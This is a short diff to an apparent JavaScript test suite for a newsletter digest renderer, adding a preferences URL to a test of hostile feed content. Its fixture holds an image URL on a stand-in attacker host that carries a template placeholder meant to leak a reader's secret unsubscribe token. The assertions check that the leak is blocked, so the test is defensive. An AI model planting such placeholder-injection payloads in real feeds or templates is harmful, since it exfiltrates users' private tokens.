@@ -184,7 +184,10 @@ describe("hostile feed content", () => {
       image: "https://evil.example/pixel.png?{{unsubscribe_url}}",
     });
     const digest = await renderDigest(digestInput([spy, item()]));
-    const reader = personalise(digest, { unsubscribeUrl: "https://tidings.example/unsubscribe?token=SECRET" });
+    const reader = personalise(digest, {
+      unsubscribeUrl: "https://tidings.example/unsubscribe?token=SECRET",
+      preferencesUrl: "https://tidings.example/preferences?token=OTHER",
+    });
     const $ = load(reader.html);
     expect($("img.card-thumb").attr("src")).toBe("https://evil.example/pixel.png?%7B%7Bunsubscribe_url%7D%7D");
     expect($("a[href^='https://evil.example']").first().attr("href")).not.toContain("SECRET");
